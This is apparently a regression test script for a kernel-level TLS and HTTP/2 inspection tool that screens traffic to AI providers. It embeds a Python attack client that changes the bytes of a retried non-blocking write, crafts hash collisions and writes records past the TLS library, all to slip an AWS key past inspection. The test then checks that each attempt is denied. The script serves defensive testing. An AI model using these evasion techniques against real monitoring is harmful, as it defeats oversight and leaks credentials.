#!/usr/bin/env bash
# A failed HTTP/2 write repeated with other bytes. A non-blocking client's
# SSL_write fails (WANT_WRITE) part way through a 1 MB request; OpenSSL
# re-reads the part it had not yet encrypted from the REPEATED call's
# buffer, and python sets SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER, so the
# program may change that buffer between the two calls. The kernel parses a
# failed call's bytes once (a repeat brings the same bytes again), so it
# must check that they are the same: here the repeat carries an AWS key in
# the body's tail, which the first call did not. Before the check, the
# stream was decided on the first call's clean bytes and the key reached
# the provider; now the connection is lost (`h2_state`) and refused by
# `uninspectable deny`, and the key never arrives. And a record written on
# the socket past the TLS library between a failed call and its repeat is
# refused: the failed call's credit is taken back until the repeat is
# checked.
source "$(dirname "$0")/../lib/harness.sh"
export H_PROVIDER_H2=1 H_PROVIDER_H2_WINDOW_openai=16777216
harness_start tls-h2-replay

/usr/bin/python3 -c 'import h2' 2>/dev/null || skip_or_fail "python3-h2 missing (scripts/install-deps.sh)"

obj=$(make_policy big-bodies <"$H_POLICIES/big-bodies.asp")
start_aspend "$obj"
audit_wait event=policy_load policy=big-bodies >/dev/null

# ATTACK [same]: one 1 MB request written in one non-blocking SSL_write;
# every repeat after a WANT_WRITE carries an AWS key 300 bytes before the
# end of the body (with "same", the same bytes: the control). Prints
# {"wants": N, "sent": bool, "error": ...}.
ATTACK='import json, os, select, socket, ssl, sys, time
import h2.config, h2.connection
host, ca, mode = sys.argv[1], sys.argv[2], sys.argv[3]
key = b"AKIAIOSFODNN7EXAMPLE"
body = json.dumps({"messages": [{"role": "user", "content": "x" * 1000000}],
                   "model": "gpt-4o-mini"}).encode()
if mode == "smuggle":  # decided at its start: the big write is credited, not held
    body = json.dumps({"model": "gpt-4o-mini",
                       "messages": [{"role": "user", "content": "x" * 1000000}]}).encode()
ctx = ssl.create_default_context(cafile=ca)
ctx.set_alpn_protocols(["h2"])
raw = socket.create_connection((host, 443), timeout=15)
raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
s = ctx.wrap_socket(raw, server_hostname=host)
assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
c.initiate_connection()
s.sendall(c.data_to_send())
deadline = time.time() + 10  # the server grants 16 MiB: wait for its SETTINGS and WINDOW_UPDATE
while (c.outbound_flow_control_window < len(body) or
       c.remote_settings.initial_window_size < len(body)) and time.time() < deadline:
    data = s.recv(65536)
    if not data:
        break
    c.receive_data(data)
    s.sendall(c.data_to_send())
release = sys.argv[4] if mode == "smuggle" else ""
c.send_headers(1, [(":method", "POST"), (":path", "/v1/chat/completions"), (":scheme", "https"),
                   (":authority", host), ("content-type", "application/json")] +
               ([("x-aspen-test-stall", release)] if release else []))
s.sendall(c.data_to_send())
step = c.max_outbound_frame_size
for i in range(0, len(body), step):
    c.send_data(1, body[i:i + step], end_stream=i + step >= len(body))
first = c.data_to_send()
# the body tail is the end of the last DATA frame: the key goes 300 bytes
# before the end, inside the content string
p = len(first) - 300
assert first[p:p + len(key)] == b"x" * len(key)
again = first if mode != "changed" else first[:p] + key + first[p + len(key):]
if mode == "collide":
    # the key in the repeat; in the first call, the same bytes but three
    # bits (bit 63 of a word, bits 34 and 63 of the next, counted from the
    # first byte of the call): the former hash could not tell the two
    # apart whatever its key, and the first call does not spell a key
    p -= p % 8
    again = first[:p] + key + first[p + len(key):]
    broken = bytearray(again)
    for at, bit in ((7, 0x80), (12, 0x04), (15, 0x80)):
        broken[p + at] ^= bit
    first = bytes(broken)
    assert key not in first
smuggled = None
# the record starts where the records sk_msg walked end: here the kernel
# keeps the unsent rest of the record the failed call half sent for the
# socket (TCP had 127 bytes of it), so no filler goes first (evasion.py
# wantwrite, over HTTP/1.1, needs one)
from tls_smuggle import record_past_library
s.setblocking(False)
wants, sent, err, buf = 0, False, None, first
t_end = time.time() + 20
while time.time() < t_end:
    try:
        n = s.send(buf)
        if n == len(buf):
            sent = True
            break
        buf, again = buf[n:], again[n:]  # a partial write: a new call for the rest
    except ssl.SSLWantWriteError:
        wants += 1
        if mode == "smuggle" and smuggled is None:
            smuggled = record_past_library(s)
            open(release, "w").close()  # the provider reads again
        buf = again  # the repeat: OpenSSL reads what it had not encrypted from here
        select.select([], [s], [], 1)
    except (ssl.SSLError, OSError) as e:
        err = "%s %s" % (type(e).__name__, getattr(e, "errno", ""))
        break
print(json.dumps({"wants": wants, "sent": sent, "error": err, "smuggled": smuggled}), flush=True)
time.sleep(1)
'
attack() { # NAME MODE
	client "$1" env PYTHONPATH="$H_LIB" /usr/bin/python3 -c "$ATTACK" api.openai.com "$H_CA" "$2" "$H_WORK/release-$1"
}
# the client's write failed with WANT_WRITE at least once: the case was exercised
expect_wants() {
	local wants
	wants=$(sed -n 's/.*"wants": \([0-9]*\).*/\1/p' "$C_OUT")
	[ "${wants:-0}" -ge 1 ] || fail "the client's write never failed with WANT_WRITE (wants=$wants): the case is not exercised"
}
key_at_provider() {
	cat "$H_REC/$IP_OPENAI"/conn-*.raw 2>/dev/null | grep -ac AKIAIOSFODNN7EXAMPLE || true
}

# ---- the control: a repeat with the same bytes is parsed once, allowed
provider_mark "$IP_OPENAI"
attack same same
assert_contains "$C_OUT" '"sent": true' "the same bytes repeated: the request was written"
expect_wants
audit_wait event=request decision=allow rule=approved_models model=gpt-4o-mini unparsed=null pid="$C_PID" >/dev/null
assert_eq 0 "$(audit_count event=request unparsed=h2_state pid="$C_PID")" "the same bytes repeated: no h2_state line"

# ---- the attack: the repeat brings an AWS key the first call did not
provider_mark "$IP_OPENAI"
attack changed changed
expect_wants
assert_eq 0 "$(key_at_provider)" "the AWS key the repeated write brought, at the provider"
audit_wait event=request decision=deny rule=uninspectable unparsed=h2_state pid="$C_PID" >/dev/null

# ---- the same, the repeat's bytes chosen to hash as the first call's did
# under the former hash (SipHash now, tests/unit/test_siphash.c): before,
# the check passed and the key reached the provider
provider_mark "$IP_OPENAI"
attack collide collide
expect_wants
assert_eq 0 "$(key_at_provider)" "the AWS key a colliding repeat brought, at the provider"
audit_wait event=request decision=deny rule=uninspectable unparsed=h2_state pid="$C_PID" >/dev/null

# ---- a record written past the TLS library between the failed call and
# its repeat: the failed call's credit is taken back until the repeat is
# checked (before, it stood, and covered the record)
provider_mark "$IP_OPENAI"
attack smuggle smuggle
expect_wants
assert_contains "$C_OUT" '"smuggled": "refused 13"' "a record written past the TLS library before the repeat"
audit_wait event=request decision=deny rule=uninspectable unparsed=uninspected_bytes pid="$C_PID" >/dev/null

assert_not_contains "$H_AUDIT" AKIAIOSFODNN7EXAMPLE "the audit trail"
stop_aspend
